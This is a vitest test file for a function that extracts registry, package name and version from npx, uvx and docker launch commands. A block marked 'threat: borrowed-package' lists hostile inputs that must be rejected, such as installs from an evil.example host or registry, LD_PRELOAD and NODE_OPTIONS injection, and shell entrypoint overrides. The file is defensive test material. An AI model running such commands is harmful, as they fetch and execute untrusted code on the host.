import { expect, test } from "vitest";
import { packageOf } from "./package.ts";

const of = (line: string): string => {
  const [command = "", ...args] = line.split(" ");
  const found = packageOf(command, args);
  return found ? `${found.registry}:${found.name}${found.version ? ` = ${found.version}` : ""}` : "none";
};

test.each([
  ["npx -y @scope/name@1.2.3 --flag", "npm:@scope/name = 1.2.3"],
  ["npx name", "npm:name"],
  ["npx name@latest", "npm:name"],
  ["npx name@^1.2", "npm:name"],
  ["npx name@1.x", "npm:name"],
  ["npx name@*", "npm:name"],
  ["npx name@next", "npm:name"],
  ["npx name@>=1.2", "npm:name"],
  ["npx name@1.0.0-beta.1", "npm:name = 1.0.0-beta.1"],
  ["uvx mcp-server-git@latest", "pypi:mcp-server-git"],
  ["pnpm dlx name@2.0.0", "npm:name = 2.0.0"],
  ["uvx mcp-server-git==0.6.2", "pypi:mcp-server-git = 0.6.2"],
  ["uv tool run mcp-server-git", "pypi:mcp-server-git"],
  ["uvx --from mcp-server-git@1.0 mcp-server-git", "pypi:mcp-server-git = 1.0"],
  ["docker run -i --rm -e TOKEN mcp/github", "oci:mcp/github"],
  ["docker run -i ghcr.io/acme/x:1.4", "oci:ghcr.io/acme/x = 1.4"],
  ["docker run -i mcp/x@sha256:abc", "oci:mcp/x = sha256:abc"],
  ["node server.js", "none"],
])("%s is %s", (line, expected) => {
  expect(of(line)).toBe(expected);
});

// threat: borrowed-package
test.each([
  "npx name@npm:evil",
  "npx name@https://evil.example/x.tgz",
  "npx name@github:evil/x",
  "npx name@file:../evil",
  "npx ./name",
  "npx name@.",
  "npx name@..",
  "npx @scope/name@.hidden",
  "npx @scope/name@evil.tgz",
  "npx name@1.0.0.tar.gz",
  "npx name@1.tar",
  "npx evil.tgz",
  "npx evil.tar",
  "npx -p name@. name",
  "uvx name@.",
  "uvx --from name@evil.tgz name",
  "npx --registry http://evil.example name",
  "npx -c evil -p name",
  "npx -p name -c evil",
  "npx -p name evil",
  "npx -p name -p evil name",
  "uvx --index-url http://evil.example name",
  "uvx --with evil name",
  "uvx --from git+https://evil.example/name name",
  "docker run --entrypoint sh mcp/github",
  "docker run -e NODE_OPTIONS=--import=/evil.mjs mcp/github",
  "docker run --env=LD_PRELOAD=/evil.so mcp/github",
  "docker run --hostname mcp/github evil/image",
  "npm run name",
])("%s borrows no identity", (line) => {
  expect(of(line)).toBe("none");
});
